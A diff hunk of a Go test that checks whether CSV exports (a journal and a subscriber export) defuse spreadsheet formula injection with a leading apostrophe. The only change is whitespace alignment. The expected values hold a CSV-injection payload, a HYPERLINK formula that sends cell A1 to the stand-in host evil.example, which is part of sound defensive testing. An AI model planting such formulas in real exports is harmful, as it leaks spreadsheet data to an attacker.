@@ -38,7 +38,7 @@ func TestCSVExportsDefuseFormulas(t *testing.T) {
 			t.Fatalf("create service = %d", r.Status)
 		}
 		for path, want := range map[string][]string{
-			"/admin/bellerive/journal.csv":       {`"'=HYPERLINK(""https://evil.example/?""&A1;""Voir"")"`},
+			"/admin/bellerive/journal.csv":        {`"'=HYPERLINK(""https://evil.example/?""&A1;""Voir"")"`},
 			"/admin/bellerive/abonnes/export.csv": {"'=1+1@example.test;"},
 		} {
 			r := c.Get(path)
